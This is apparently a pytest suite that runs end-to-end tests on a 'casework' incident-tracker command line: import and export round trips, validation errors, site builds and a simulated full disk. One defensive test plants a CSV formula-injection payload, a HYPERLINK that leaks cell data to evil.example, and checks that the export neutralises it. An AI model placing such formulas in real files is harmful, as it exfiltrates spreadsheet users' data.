"""The command line, end to end, on real tracker folders and SQLite files."""

from __future__ import annotations

import json
import os
import subprocess
import sys
from pathlib import Path

import pytest
from typer.testing import CliRunner

from casework.cli import app
from casework.examples import generate_records
from casework.formats import write_ndjson
from casework.model import Site, slugify

runner = CliRunner()


def cw(tracker: Path, *args: str) -> tuple[int, str, str]:
    result = runner.invoke(app, ["--tracker", str(tracker), *args])
    return result.exit_code, result.stdout, result.stderr


def one_line_error(code: int, err: str, *words: str) -> None:
    """A failed command that said why in one line naming `words` (exit code 1)."""
    assert code == 1
    lines = err.strip().splitlines()
    assert len(lines) == 1 and lines[0].startswith("error: "), err
    for word in words:
        assert word in lines[0]


@pytest.fixture
def tracker(tmp_path: Path) -> Path:
    folder = tmp_path / "t"
    code, _, err = cw(tmp_path, "init", str(folder), "--url", "https://m.example.org")
    assert code == 0, err
    return folder


def ndjson_file(path: Path, count: int, seed: int = 3) -> Path:
    site = Site(url="https://m.example.org")
    with path.open("w", encoding="utf-8") as out:
        write_ndjson(generate_records(count, seed=seed, site=site), site, out)
    return path


def test_init_makes_a_tracker_and_refuses_to_overwrite_one(tmp_path: Path, tracker: Path) -> None:
    assert (tracker / "casework.toml").exists() and (tracker / "tracker.db").exists()
    before = (tracker / "casework.toml").read_bytes()
    code, _, err = cw(tmp_path, "init", str(tracker))
    assert code == 1
    assert "already exists" in err and len(err.strip().splitlines()) == 1
    assert (tracker / "casework.toml").read_bytes() == before


def test_import_then_export_gives_back_the_same_lines(tmp_path: Path, tracker: Path) -> None:
    source = ndjson_file(tmp_path / "in.ndjson", 12)
    code, out, err = cw(tracker, "import", "--status", "published", str(source))
    assert code == 0, err
    assert "Imported 12 records" in out
    code, out, err = cw(
        tracker, "export", "--format", "ndjson", "--extensions", "-o", str(tmp_path / "out.ndjson")
    )
    assert code == 0, err
    assert (tmp_path / "out.ndjson").read_text("utf-8") == source.read_text("utf-8")
    # Without --extensions: the seed tracker's format, casework's own keys (the example
    # records' provenance and locations) left out and nothing else changed.
    seed = str(tmp_path / "seed.ndjson")
    code, out, err = cw(tracker, "export", "--format", "ndjson", "-o", seed)
    assert code == 0, err
    lines = (tmp_path / "seed.ndjson").read_text("utf-8").splitlines()
    given = [json.loads(line) for line in source.read_text("utf-8").splitlines()]
    assert all(record.pop("provenance") for record in given)
    assert all(record.pop("locations") for record in given)
    assert [json.loads(line) for line in lines] == given


def test_one_invalid_record_imports_nothing(tmp_path: Path, tracker: Path) -> None:
    source = ndjson_file(tmp_path / "in.ndjson", 6)
    lines = source.read_text("utf-8").splitlines()
    bad = json.loads(lines[4])
    bad["date"] = "12/02/2025"
    lines[4] = json.dumps(bad, ensure_ascii=False)
    source.write_text("\n".join(lines) + "\n", encoding="utf-8")

    code, _, err = cw(tracker, "import", str(source))
    assert code == 1
    assert str(source) in err and bad["slug"] in err and "date" in err
    assert "nothing was imported" in err
    code, out, _ = cw(tracker, "search", "--all", "--json")
    assert json.loads(out)["total"] == 0

    code, out, err = cw(tracker, "import", "--skip-invalid", str(source))
    assert code == 0
    assert "Imported 5 records, skipped 1 invalid" in out
    assert bad["slug"] in err


def test_new_record_is_a_draft_with_history(tracker: Path) -> None:
    code, out, err = cw(
        tracker,
        "new",
        "Police detain three reporters at a rally",
        "--date",
        "2026-03-02",
        "--category",
        "civil-liberties",
    )
    assert code == 0, err
    slug = "police-detain-three-reporters-at-a-rally"
    assert slug in out
    code, out, _ = cw(tracker, "show", slug)
    assert "draft" in out and "2026-03-02" in out
    code, out, _ = cw(tracker, "history", slug, "--verify")
    assert code == 0 and "create" in out and "1 revisions intact" in out
    code, out, _ = cw(tracker, "search", "reporters", "--json")
    assert json.loads(out)["total"] == 0  # drafts are not public
    code, out, _ = cw(tracker, "search", "reporters", "--all", "--json")
    assert [hit["slug"] for hit in json.loads(out)["hits"]] == [slug]


def test_new_refuses_an_unknown_category(tracker: Path) -> None:
    code, _, err = cw(tracker, "new", "Something", "--category", "weather")
    assert code == 1
    assert "category" in err and "weather" in err


def test_search_prints_hits_and_facets(tmp_path: Path, tracker: Path) -> None:
    cw(tracker, "import", "--status", "published", str(ndjson_file(tmp_path / "in.ndjson", 30)))
    _code, out, _ = cw(tracker, "search", "--json")
    result = json.loads(out)
    assert result["total"] == 30
    assert sum(n for _, n in result["facets"]["category"]) == 30


def test_check_exits_1_on_errors_and_names_the_rule(tmp_path: Path, tracker: Path) -> None:
    records = [
        json.loads(line)
        for line in ndjson_file(tmp_path / "in.ndjson", 3).read_text("utf-8").splitlines()
    ]
    records[0]["relatedIncidents"] = ["no-such-record"]
    path = tmp_path / "bad.ndjson"
    path.write_text("\n".join(json.dumps(r) for r in records) + "\n", encoding="utf-8")
    cw(tracker, "import", "--status", "published", str(path))
    code, out, _ = cw(tracker, "check")
    assert code == 1
    assert "no-such-record" in out and records[0]["slug"] in out


def test_generate_writes_ndjson_or_imports(tmp_path: Path, tracker: Path) -> None:
    code, _, err = cw(tracker, "generate", "4", "-o", str(tmp_path / "g.ndjson"))
    assert code == 0, err
    assert len((tmp_path / "g.ndjson").read_text("utf-8").splitlines()) == 4
    code, out, _ = cw(tracker, "generate", "4")
    assert code == 0 and "Added 4" in out


def test_demo_is_made_once_and_reused(tmp_path: Path) -> None:
    folder = tmp_path / "demo"
    code, out, err = cw(tmp_path, "demo", str(folder), "--records", "8", "--no-serve")
    assert code == 0, err
    assert "(new)" in out
    code, out, _ = cw(folder, "search", "--json")
    assert json.loads(out)["total"] == 8
    code, out, _ = cw(tmp_path, "demo", str(folder), "--records", "8", "--no-serve")
    assert code == 0 and "reused" in out


def test_errors_are_one_line_and_verbose_shows_the_traceback(tmp_path: Path) -> None:
    code, _, err = cw(tmp_path / "nowhere", "search", "x")
    assert code == 1
    assert len(err.strip().splitlines()) == 1 and "casework init" in err
    result = runner.invoke(app, ["--verbose", "--tracker", str(tmp_path / "nowhere"), "search"])
    assert "Traceback" in result.stderr


def test_missing_record_is_one_line(tracker: Path) -> None:
    code, _, err = cw(tracker, "show", "no-such-slug")
    assert code == 1 and "no-such-slug" in err and len(err.strip().splitlines()) == 1


@pytest.mark.parametrize(
    ("title", "slug"),
    [("Ejército dispara en Ñuñoa", "ejercito-dispara-en-nunoa"), ("  A -- B  ", "a-b")],
)
def test_slugify_makes_plain_ascii_slugs(title: str, slug: str) -> None:
    assert slugify(title) == slug


FIXTURES = Path(__file__).parent / "fixtures" / "records"


def test_a_collection_document_imports_and_exports_the_same_bytes(
    tmp_path: Path, tracker: Path
) -> None:
    source = FIXTURES / "collection.json"
    doc = json.loads(source.read_text("utf-8"))
    # The fixture's site must be the tracker's for the bytes to match.
    (tracker / "casework.toml").write_text(
        (tracker / "casework.toml")
        .read_text("utf-8")
        .replace("https://m.example.org", doc["site"]),
        encoding="utf-8",
    )
    code, out, err = cw(tracker, "import", "--status", "published", str(source))
    assert code == 0, err
    assert f"Saved collection {doc['collection']['slug']}" in out
    target = tmp_path / "out.json"
    code, _, err = cw(
        tracker, "export", "--collection", doc["collection"]["slug"], "-o", str(target)
    )
    assert code == 0, err
    written = json.loads(target.read_text("utf-8"))
    assert written["generatedAt"] != "" and written["collection"] == doc["collection"]
    expected = source.read_text("utf-8").replace(doc["generatedAt"], written["generatedAt"])
    assert target.read_text("utf-8") == expected


def test_exporting_an_unknown_collection_is_one_line(tmp_path: Path, tracker: Path) -> None:
    code, _, err = cw(tracker, "export", "--collection", "nope", "-o", str(tmp_path / "x"))
    assert code == 1 and "nope" in err and len(err.strip().splitlines()) == 1


def test_check_on_files_lists_every_invalid_record_and_keeps_going(
    tmp_path: Path, tracker: Path
) -> None:
    records = [
        json.loads(line)
        for line in ndjson_file(tmp_path / "in.ndjson", 4).read_text("utf-8").splitlines()
    ]
    records[1]["severity"] = "apocalyptic"
    records[2]["date"] = "yesterday"
    records[3]["relatedIncidents"] = ["no-such-record"]
    path = tmp_path / "bad.ndjson"
    path.write_text("\n".join(json.dumps(r) for r in records) + "\n", encoding="utf-8")
    code, out, _ = cw(tracker, "check", str(path))
    assert code == 1
    assert "severity" in out and "apocalyptic" in out
    assert "date" in out and "yesterday" in out
    assert "related-missing" in out and "no-such-record" in out
    assert "4 records checked:" in out


@pytest.mark.parametrize("form", ["archive", "ndjson", "csv"])
def test_export_to_standard_output_is_the_same_as_to_a_file(
    tmp_path: Path, tracker: Path, form: str
) -> None:
    cw(tracker, "import", "--status", "published", str(ndjson_file(tmp_path / "in.ndjson", 5)))
    code, printed, err = cw(tracker, "export", "--format", form, "-o", "-")
    assert code == 0, err
    cw(tracker, "export", "--format", form, "-o", str(tmp_path / "out"))
    written = (tmp_path / "out").read_text("utf-8")
    if form == "archive":  # only generatedAt may differ
        stamp = json.loads(written)["generatedAt"]
        printed = printed.replace(json.loads(printed)["generatedAt"], stamp)
        assert json.loads(printed)["recordCount"] == 5
    assert printed == written


def test_csv_export_neutralises_a_formula_behind_leading_whitespace(
    tmp_path: Path, tracker: Path
) -> None:
    """`casework export --format csv` (the same writer as /data/records.csv): a summary that
    a spreadsheet would trim to a formula reaches the file behind an apostrophe."""
    import csv
    import io

    source = ndjson_file(tmp_path / "in.ndjson", 1)
    [line] = source.read_text("utf-8").splitlines()
    document = json.loads(line)
    document["summary"] = ' =HYPERLINK("http://evil.example/?leak="&A1)'
    document["victims"] = "\n@SUM(A1)"
    source.write_text(json.dumps(document) + "\n", "utf-8")
    assert cw(tracker, "import", "--status", "published", str(source))[0] == 0
    code, printed, err = cw(tracker, "export", "--format", "csv", "-o", "-")
    assert code == 0, err
    [row] = list(csv.DictReader(io.StringIO(printed, newline="")))
    assert row["summary"] == "'" + document["summary"]
    assert row["victims"] == "'" + document["victims"]


def test_markdown_export_to_standard_output_is_refused(tracker: Path) -> None:
    code, _, err = cw(tracker, "export", "--format", "markdown", "-o", "-")
    assert code == 1 and "folder" in err


def test_build_writes_the_site_then_reports_nothing_to_do(tracker: Path) -> None:
    assert cw(tracker, "generate", "5")[0] == 0
    code, out, err = cw(tracker, "build")
    assert code == 0, err
    assert "5 records" in " ".join(out.split())  # rich wraps long lines
    assert (tracker / "site" / "index.html").is_file()
    code, out, _ = cw(tracker, "build")
    assert code == 0 and "up to date" in " ".join(out.split())


def test_a_build_after_an_unpublish_says_it_kept_no_rollback_build(tracker: Path) -> None:
    assert cw(tracker, "generate", "3")[0] == 0
    assert cw(tracker, "build")[0] == 0
    _, out, _ = cw(tracker, "search", "--json")
    slug = json.loads(out)["hits"][0]["slug"]
    assert cw(tracker, "unpublish", slug)[0] == 0
    code, out, err = cw(tracker, "build")
    assert code == 0, err
    assert "not kept for rollback" in " ".join(out.split())
    builds = [p for p in (tracker / ".site.builds").iterdir() if p.is_dir() and not p.suffix]
    assert len(builds) == 1


def test_build_refuses_a_folder_it_did_not_make_in_one_line(tmp_path: Path, tracker: Path) -> None:
    mine = tmp_path / "mine"
    mine.mkdir()
    (mine / "notes.txt").write_text("keep me")
    code, _, err = cw(tracker, "build", "--out", str(mine))
    assert code == 1
    assert "not a casework build output" in err and "Traceback" not in err
    assert (mine / "notes.txt").read_text() == "keep me"


def test_ingest_refuses_the_trackers_own_database_by_any_name(tracker: Path) -> None:
    (tracker / "alias.db").hardlink_to(tracker / "tracker.db")
    for name in ("tracker.db", "tracker.db-wal", "alias.db"):
        for queued in ([], ["--queue"]):
            code, _, err = cw(tracker, "ingest", str(tracker / name), *queued)
            one_line_error(code, err, name, "is the tracker's database")
    assert not (tracker / "proposals").exists()
    code, out, _ = cw(tracker, "jobs")
    assert code == 0 and "ingest" not in out


FULL_DISK = """
import resource, sys
from casework.cli import app
resource.setrlimit(resource.RLIMIT_FSIZE, (256 * 1024, 256 * 1024))
app(args=sys.argv[1:], prog_name="casework")
"""


def test_a_full_disk_is_one_line_and_imports_nothing(tmp_path: Path, tracker: Path) -> None:
    source = ndjson_file(tmp_path / "in.ndjson", 300)
    # The kernel refuses to grow any file past 256 KiB: SQLite's WAL cannot take the import.
    done = subprocess.run(
        [sys.executable, "-c", FULL_DISK, "-t", str(tracker), "import", str(source)],
        capture_output=True,
        text=True,
        check=False,
        env={**os.environ, "NO_COLOR": "1"},
    )
    one_line_error(done.returncode, done.stderr, str(tracker / "tracker.db"), "nothing was saved")
    code, out, _ = cw(tracker, "search", "--all", "--json")
    assert code == 0 and json.loads(out)["total"] == 0


def test_search_prints_snippets_as_text_not_html_or_markup(tracker: Path) -> None:
    """The snippet is HTML for the web (escaped, <mark>); the terminal gets the record's own
    characters back, and a record's brackets are never read as rich markup."""
    code, _, err = cw(tracker, "new", "Mine blast", "--summary", "Officers' [red]mine[/red] <b>&")
    assert code == 0, err
    code, out, _ = cw(tracker, "search", "mines", "--all")
    assert code == 0
    assert "Officers' [red]mine[/red] <b>&" in out
    assert "&#x27;" not in out and "&lt;" not in out and "&amp;" not in out
